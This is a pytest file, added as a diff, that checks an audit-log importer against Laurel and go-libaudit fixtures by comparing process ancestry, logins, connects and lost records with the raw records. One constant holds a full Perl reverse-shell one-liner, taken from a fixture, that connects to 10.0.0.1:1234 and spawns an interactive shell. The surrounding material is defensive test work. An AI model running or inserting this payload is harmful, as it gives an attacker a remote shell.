@@ -1,0 +1,271 @@
+"""The audit importer on the public fixtures of Laurel and go-libaudit (tests/fixtures/audit/,
+origin and licence in each folder's README): every file is imported through the real path
+(import_lines, then ingest into a store on disk), and what the store then holds - each
+command's argv and its ancestry, logins, connects, lost records, garbage lines - is compared
+whole with what the raw records say. The expectations were written from the records
+(EXECVE's a0.., SYSCALL's pid/ppid and clone exits), not from the importer's output."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from audit_corpus import FIXTURES, GO_LIBAUDIT, LAUREL, import_into, log_lines, yaml_logs
+
+SCRIPT = "./src/testdata/double-fork/test-script.sh"
+# Laurel's shell-proc-trace: `( /bin/echo foo | /bin/sed -e 's/foo/bar/' ) | /bin/grep bar` run by
+# dash 71505 (forked by the login shell 71432): it forks the subshell 71506 and grep 71507; the
+# subshell forks echo 71508 and sed 71509. Every exec's parent is the process whose clone made it.
+PIPELINE = {
+    SCRIPT: f"71505:{SCRIPT} < 71432",
+    "grep baz": f"71507:grep baz < 71505:{SCRIPT} < 71432",
+    "/bin/echo foo": f"71508:/bin/echo foo < 71506 < 71505:{SCRIPT} < 71432",
+    "/bin/sed -e s/foo/bar/": f"71509:/bin/sed -e s/foo/bar/ < 71506 < 71505:{SCRIPT} < 71432",
+}
+BASH = "1140453:-bash < 1140452"
+DPKG = f"1140462:dpkg -l ; dpkg-query --list -- < {BASH}"
+PERL = ('use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
+        'open(STDERR,">&S");exec("/bin/sh -i");};')
+WEBLOGIC = ("/usr/java/jdk1.8.0_151/bin/java -server -Djava.security.egd=file:/dev/./urandom -cp "
+            "/u01/oracle/wlserver/server/lib/weblogic-launcher.jar -Dlaunch.use.env.classpath=true "
+            "-Dweblogic.Name=AdminServer -Djava.security.policy=/u01/oracle/wlserver/server/lib/weblogic.policy "
+            "-Djava.system.class.loader=com.oracle.classloader.weblogic.LaunchClassLoader "
+            "-javaagent:/u01/oracle/wlserver/server/lib/debugpatch-agent.jar -da "
+            "-Dwls.home=/u01/oracle/wlserver/server -Dweblogic.home=/u01/oracle/wlserver/server weblogic.Server")
+CSH = "2542:-csh -c /tmp/REDACTED.csh < 2532"
+LIBAUDIT_EXECS = {"grep --color=auto mapping": "13393:grep --color=auto mapping < 12041",
+                  "cat securitybeat": "13392:cat securitybeat < 12041"}
+
+
+def long_echo_arg() -> str:
+    """record-execve-long's a1, read straight off its EXECVE lines: the a1[n] hex parts joined."""
+    text = (LAUREL / "record-execve-long.txt").read_text()
+    return bytes.fromhex("".join(re.findall(r"a1\[\d+\]=([0-9A-F]+)", text))).decode()
+
+
+def missing(path) -> int:
+    """The serial numbers a log whose serials only rise skips: records lost, or edited out."""
+    serials = sorted({int(s) for s in re.findall(r"msg=audit\(\d+\.\d+:(\d+)\)", path.read_text())})
+    return sum(b - a - 1 for a, b in zip(serials, serials[1:]))
+
+
+# file -> what its import stores: chains (command -> ancestry), logins (user, addr, port,
+# method), connects (pid, addr, port), records lost (sum of the gaps), garbage lines
+EXPECTED: dict[str, dict] = {
+    # Laurel ------------------------------------------------------------------------------------
+    "laurel/shell-proc-trace.txt": dict(chains=PIPELINE, garbage=24),
+    "laurel/shell-proc-trace-reordered.txt": dict(chains=PIPELINE, garbage=3),    # EOEs last, newest first
+    "laurel/proc-trace-dpkg-l.txt": dict(garbage=5, chains={
+        "-bash": BASH,
+        "/usr/bin/locale-check C.UTF-8": f"1140454:/usr/bin/locale-check C.UTF-8 < {BASH}",
+        "locale": f"1140455:locale < {BASH}",
+        "/usr/bin/lesspipe": f"1140457:/usr/bin/lesspipe < {BASH}",
+        "basename /usr/bin/lesspipe": f"1140458:basename /usr/bin/lesspipe < 1140457:/usr/bin/lesspipe < {BASH}",
+        "dirname /usr/bin/lesspipe": f"1140460:dirname /usr/bin/lesspipe < 1140459 < 1140457:/usr/bin/lesspipe < {BASH}",
+        "dircolors -b": f"1140461:dircolors -b < {BASH}",
+        "dpkg-query --list --": DPKG,                 # dpkg execs dpkg-query: one process, two images
+        "sh -c -- pager": f"1140463:sh -c -- pager < {DPKG}",
+        "pager": f"1140464:pager < 1140463:sh -c -- pager < {DPKG}"}),
+    # the rm of pid 2655 (root, 0.8 s before) and the csh tcsh forks as 2655 later are two processes
+    "laurel/shell-proc-trace-confusion.txt": dict(garbage=25, lost=missing(LAUREL / "shell-proc-trace-confusion.txt"),
+                                                  chains={
+        "rm -f /tmp/2643A1 /tmp/2643A2 /tmp/2643XX": "2655:rm -f /tmp/2643A1 /tmp/2643A2 /tmp/2643XX < 2643",
+        "-csh -c /tmp/REDACTED.csh": CSH,
+        "hostname": f"2643:hostname < {CSH}",
+        "awk -F) {print $1}": f"2655:awk -F) {{print $1}} < {CSH}",
+        "id": f"2656:id < 2655:awk -F) {{print $1}} < {CSH}"}),
+    # execve("/bin/true", NULL, NULL): the kernel logs a0="" - stored under the program's path
+    "laurel/fork-sleep-exec.txt": dict(garbage=14, lost=1, chains={               # serial 6104006
+        "/home/user/bin/uncaring-parent": "1578539:/home/user/bin/uncaring-parent < 3822680",
+        "/bin/true": "1578540:/bin/true < 1"}),
+    "laurel/record-execve.txt": dict(chains={"whoami": "10884:whoami < 10883"}),
+    "laurel/record-execve-long.txt": dict(chains={f"/bin/echo {long_echo_arg()}": f"8832:/bin/echo {long_echo_arg()} < 10881"}),
+    "laurel/record-perl-reverse-shell.txt": dict(chains={f"perl -e {PERL}": f"724395:perl -e {PERL} < 722076"}),
+    "laurel/record-weblogic.txt": dict(chains={WEBLOGIC: f"1362221:{WEBLOGIC} < 1362170"}),
+    "laurel/record-syscall-key.txt": dict(chains={"cat": "6382:cat < 3193"}),
+    # an execve with no EXECVE record: the command is its comm
+    "laurel/record-syscall-nullkey.txt": dict(chains={"(systemd)": "3489504:(systemd) < 1"}),
+    "laurel/record-connect.txt": dict(connects=[(1074252, "127.0.0.1", 11211), (1074252, "::1", 11211)]),
+    "laurel/record-login.txt": dict(),          # cron's LOGIN with its write(): sets a login uid, no login
+    "laurel/line-user-acct.txt": dict(),        # a USER_ACCT from cron: no login
+    "laurel/record-adjntpval.txt": dict(), "laurel/record-anom-promiscuous.txt": dict(),
+    "laurel/record-avc-apparmor.txt": dict(), "laurel/record-bind-ipv4-bigendian.txt": dict(),
+    "laurel/record-nscd.txt": dict(), "laurel/record-ptrace.txt": dict(), "laurel/record-service-start.txt": dict(),
+    "laurel/record-uringop.txt": dict(),
+    "laurel/tree/README.txt": dict(garbage=3),  # prose, not a log
+    # go-libaudit -------------------------------------------------------------------------------
+    "go-libaudit/testdata/normal.log": dict(chains=LIBAUDIT_EXECS, connects=[(1172, "169.254.169.254", 80)]),
+    "go-libaudit/testdata/out_of_order.log": dict(chains=LIBAUDIT_EXECS, connects=[(1172, "169.254.169.254", 80)]),
+    "go-libaudit/testdata/lost_messages.log": dict(chains=LIBAUDIT_EXECS, connects=[(1172, "169.254.169.254", 80)],
+                                                   lost=9),        # serials 50..58
+    # the serial counter wraps 4294967295 -> 0: no records lost, no reboot
+    "go-libaudit/testdata/rollover.log": dict(chains={"cat": "13392:cat < 12041"}),
+    "go-libaudit/auparse/audit-rhel6.log": dict(),
+    # auparse's logs are records of many hosts, boots and days cut together: their serials jump
+    # up and down, and the gaps (rises under a million) are counted as the rule says
+    # sshd's USER_AUTH gives the login's port
+    "go-libaudit/auparse/audit-rhel7.log": dict(garbage=1, lost=1_078_059,
+                                                logins=[("andrew_kroh", "96.241.146.97", 63927, "publickey")]),
+    "go-libaudit/auparse/audit-ubuntu14.log": dict(),
+    "go-libaudit/auparse/audit-ubuntu16.log": dict(logins=[("1001", "72.83.230.100", 0, "other")],
+                                                   lost=(61207 - 12651 - 1)),      # 19955, 12651, 61207
+    "go-libaudit/auparse/audit-ubuntu17.log": dict(chains={"grep": "27854:grep < 27851"}),
+    "go-libaudit/auparse/test2.log": dict(),
+    "go-libaudit/auparse/test3.log": dict(lost=1 + (194894 - 194440 - 1) + (10262 - 1865 - 1)),   # 194434 too
+    "go-libaudit/aucoalesce/ubuntu-16.10-linux-4.8.0.yaml:EXECVE": dict(chains={"uname -a": "10043:uname -a < 10027"}),
+    "go-libaudit/aucoalesce/ubuntu-16.10-linux-4.8.0.yaml:connect syscall": dict(
+        connects=[(1648, "169.254.169.254", 80)]),
+    "go-libaudit/aucoalesce/ubuntu-16.10-linux-4.8.0.yaml:USER_START": dict(
+        logins=[("andrew_kroh", "72.83.230.100", 0, "other")]),
+    "go-libaudit/aucoalesce/ubuntu-16.10-linux-4.8.0.yaml:USER_LOGIN success": dict(
+        logins=[("1001", "72.83.230.100", 0, "other")]),
+    "go-libaudit/aucoalesce/ubuntu-17.04-linux-4.10.0.yaml:EXECVE with multiple keys": dict(
+        chains={"docker inspect 721df12151a7": "5821:docker inspect 721df12151a7 < 5820"}),
+    "go-libaudit/aucoalesce/ubuntu-20.04.6-linux-5.15.0-1034-gcp.yaml:file_mode_preservation": dict(
+        chains={"dash -p": "2380168:dash -p < 2380071"}),
+}
+# Laurel's tree/: one `apt-get update` in 17 files; each holds one exec, its parent apt-get (722676)
+TREE = ["apt-get update", "/usr/bin/dpkg --print-foreign-architectures", "/usr/lib/apt/methods/http",
+        "/usr/lib/apt/methods/https", "/usr/lib/apt/methods/https", "/usr/lib/apt/methods/https",
+        "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/gpgv", "/usr/lib/apt/methods/gpgv",
+        "/usr/lib/apt/methods/rred", "/usr/lib/apt/methods/rred", "/usr/lib/apt/methods/rred",
+        "/usr/lib/apt/methods/rred", "/usr/lib/apt/methods/store", "/usr/lib/apt/methods/store",
+        "/usr/bin/dpkg --print-foreign-architectures", "/usr/bin/dpkg --print-foreign-architectures"]
+TREE_PIDS = [722676, 722677, 722678, 722679, 722680, 722681, 722682, 722689, 722691, 723173, 723175, 723188,
+             723190, 723197, 723198, 723219, 723222]
+for n, (cmd, pid) in enumerate(zip(TREE, TREE_PIDS)):
+    parent = "722675" if n == 0 else "722676"        # apt-get's exec is in 00.txt, alone
+    EXPECTED[f"laurel/tree/{n:02}.txt"] = dict(chains={cmd: f"{pid}:{cmd} < {parent}"})
+
+
+def sources() -> dict[str, list[str]]:
+    """Every raw log among the fixtures, by name: files, and each scenario of a YAML file."""
+    out = {}
+    for path in sorted(FIXTURES.rglob("*")):
+        name = str(path.relative_to(FIXTURES))
+        if path.suffix in (".txt", ".log") and path.parent != GO_LIBAUDIT:      # not LICENSE.txt, NOTICE.txt
+            out[name] = log_lines(path)
+        elif path.suffix == ".yaml":
+            out.update((f"{name}:{scenario}", lines) for scenario, lines in yaml_logs(path).items())
+    return out
+
+
+SOURCES = sources()
+
+
+def test_every_fixture_has_its_expectation():
+    # a scenario not in EXPECTED must make nothing: every one is named either way
+    assert set(EXPECTED) <= set(SOURCES)
+    assert len(SOURCES) == 40 + 11 + 48      # Laurel's files, go-libaudit's logs, its YAML scenarios
+
+
+@pytest.mark.parametrize("name", sorted(SOURCES))
+def test_a_fixture_imports_exactly_as_its_records_say(name, tmp_path):
+    want = EXPECTED.get(name, {})
+    imp = import_into(tmp_path / "w.db", SOURCES[name])
+    assert imp.chains() == want.get("chains", {})
+    assert [(e["user"], e["raddr"], e["rport"], e["method"]) for e in imp.of("login")] == want.get("logins", [])
+    assert [(e["pid"], e["raddr"], e["rport"]) for e in imp.of("connect")] == want.get("connects", [])
+    assert sum(e["count"] for e in imp.of("loss")) == want.get("lost", 0)
+    assert imp.garbage() == want.get("garbage", 0)
+
+
+def test_the_apt_get_tree_read_as_one_log_is_one_tree(tmp_path):
+    lines = [line for n in range(17) for line in log_lines(LAUREL / "tree" / f"{n:02}.txt")]
+    chains = import_into(tmp_path / "w.db", lines).chains()
+    assert len(chains) == len(set(TREE)) and all(
+        chains[cmd].endswith("722676:apt-get update < 722675") for cmd in TREE)
+
+
+# --- the bugs issue 18 names, each on the fixture that shows it ------------------------------------
+
+def test_eoes_written_out_of_order_keep_every_fork(tmp_path):
+    # all nine EOEs come after the records, newest first: the child's exec was assembled before
+    # the clone that made it, and each command stood alone (a chain of one)
+    imp = import_into(tmp_path / "w.db", log_lines(LAUREL / "shell-proc-trace-reordered.txt"))
+    assert [(e["pid"], e["ppid"]) for e in imp.of("fork")] == [
+        (71505, 71432), (71506, 71505), (71507, 71505), (71508, 71506), (71509, 71506)]
+    assert imp.chains()["/bin/sed -e s/foo/bar/"] == PIPELINE["/bin/sed -e s/foo/bar/"]
+
+
+def test_an_empty_argv0_is_stored_as_the_program_run_and_found_by_search(tmp_path):
+    imp = import_into(tmp_path / "w.db", log_lines(LAUREL / "fork-sleep-exec.txt"))
+    (true,) = [e for e in imp.of("exec") if e["pid"] == 1578540]
+    assert true["argv"] == ["/bin/true"]
+    found = imp.store.search_commands("true", glob=False, since=None, until=None, host_glob=None, limit=5)
+    assert [(p.pid, i.argv) for p, i in found] == [(1578540, ["/bin/true"])]
+
+
+@pytest.mark.xfail(strict=True, reason="h18-model: an exec with ppid=1 after reparenting takes the parent "
+                                       "the pid's earlier SYSCALL record showed (ppid=1578539)")
+def test_an_orphans_exec_keeps_the_parent_its_earlier_record_showed(tmp_path):
+    imp = import_into(tmp_path / "w.db", log_lines(LAUREL / "fork-sleep-exec.txt"))
+    assert imp.chains()["/bin/true"] == "1578540:/bin/true < 1578539:/home/user/bin/uncaring-parent < 3822680"
+
+
+def test_a_long_argument_in_hex_parts_is_whole(tmp_path):
+    imp = import_into(tmp_path / "w.db", log_lines(LAUREL / "record-execve-long.txt"))
+    (ex,) = imp.of("exec")
+    arg = long_echo_arg()
+    assert len(arg) == 8192 and ex["argv"] == ["/bin/echo", arg] and "truncated" not in ex
+    # each of the three parts begins with its own letter (b, d, f): all there, in order
+    parts = re.findall(r"a1\[\d+\]=([0-9A-F]+)", (LAUREL / "record-execve-long.txt").read_text())
+    starts = [sum(len(p) // 2 for p in parts[:n]) for n in range(len(parts))]
+    assert [arg[i] for i in starts] == ["b", "d", "f"]
+
+
+def test_a_multibyte_character_split_between_hex_parts_is_decoded_whole(tmp_path):
+    word = "Grüße aus Zürich " * 3                          # ü, ß: two bytes each in UTF-8
+    raw = word.encode().hex().upper()
+    cut = raw.index("C3BC") + 2                            # between ü's two bytes
+    log = ["type=SYSCALL msg=audit(1700000000.000:10): arch=c000003e syscall=59 success=yes exit=0 a0=0 a1=0 "
+           "a2=0 a3=0 items=1 ppid=1 pid=500 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 "
+           'sgid=1000 fsgid=1000 tty=pts0 ses=2 comm="echo" exe="/bin/echo" key=(null)\n',
+           f'type=EXECVE msg=audit(1700000000.000:10): argc=2 a0="echo" a1_len={len(raw)} a1[0]={raw[:cut]}\n',
+           f"type=EXECVE msg=audit(1700000000.000:10): a1[1]={raw[cut:]}\n",
+           "type=EOE msg=audit(1700000000.000:10): \n"]
+    (ex,) = import_into(tmp_path / "w.db", log).of("exec")
+    assert ex["argv"] == ["echo", word]
+
+
+def test_a_quoted_none_is_no_tty(tmp_path):
+    # this log quotes every value, tty="(none)" too: no exec of it ran on a terminal
+    imp = import_into(tmp_path / "w.db", log_lines(LAUREL / "shell-proc-trace-confusion.txt"))
+    assert len(imp.of("exec")) == 5 and [e for e in imp.of("exec") if "tty" in e] == []
+
+
+def test_a_login_record_grouped_with_its_syscall_is_used(tmp_path):
+    # cron sets its login uid by a write() to /proc/self/loginuid: LOGIN, SYSCALL and EOE share a serial
+    imp = import_into(tmp_path / "w.db", log_lines(LAUREL / "record-login.txt"))
+    assert imp.report.records["LOGIN"] == 1 and imp.report.used["LOGIN"] == 1
+
+
+def test_sshds_user_auth_gives_the_logins_port_and_account(tmp_path):
+    # USER_AUTH 'op=pubkey_auth rport=63927 acct="andrew_kroh" addr=96.241.146.97'; PAM's
+    # USER_START and sshd's USER_LOGIN name neither the port nor (USER_LOGIN) the account
+    imp = import_into(tmp_path / "w.db", log_lines(GO_LIBAUDIT / "auparse" / "audit-rhel7.log"))
+    (login,) = imp.of("login")
+    assert (login["user"], login["raddr"], login["rport"], login["method"], login["pid"], login["ses"]) == (
+        "andrew_kroh", "96.241.146.97", 63927, "publickey", 1298, 1)
+
+
+def test_the_serial_counter_wrapping_is_no_reboot(tmp_path):
+    # rollover.log: serials 4294967294, 4294967295, 0, 1, 2 within 1 ms - the kernel's 32-bit
+    # counter wrapped. cat (13392) then execs again at serial 3: the same process on the same
+    # boot, not a new boot whose table forgot it
+    after = ["type=SYSCALL msg=audit(1492037298.885:3): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 "
+             "a3=4 items=1 ppid=12041 pid=13392 auid=1000 uid=1000 gid=1001 euid=1000 suid=1000 fsuid=1000 egid=1001 "
+             'sgid=1001 fsgid=1001 tty=pts1 ses=802 comm="ls" exe="/usr/bin/ls" key=(null)\n',
+             'type=EXECVE msg=audit(1492037298.885:3): argc=1 a0="ls"\n', "type=EOE msg=audit(1492037298.885:3): \n"]
+    imp = import_into(tmp_path / "w.db", log_lines(GO_LIBAUDIT / "testdata" / "rollover.log") + after)
+    assert {e["boot"] for e in imp.events} == {"audit:h"} and imp.of("loss") == []
+    assert imp.chains() == {"ls": "13392:cat ; ls < 12041"}
+
+
+def test_auditds_own_records_without_a_colon_are_records_not_garbage(tmp_path):
+    # `type=DAEMON_CONFIG msg=audit(1490239800.477:34) config changed, ...`: old auditd wrote no ':'
+    imp = import_into(tmp_path / "w.db", log_lines(GO_LIBAUDIT / "auparse" / "audit-rhel7.log"))
+    assert imp.report.records["DAEMON_CONFIG"] == 1
+    assert imp.report.samples == ["lines that are not audit records: 'type=UNKNOWN[1329] msg=?\\n'"]
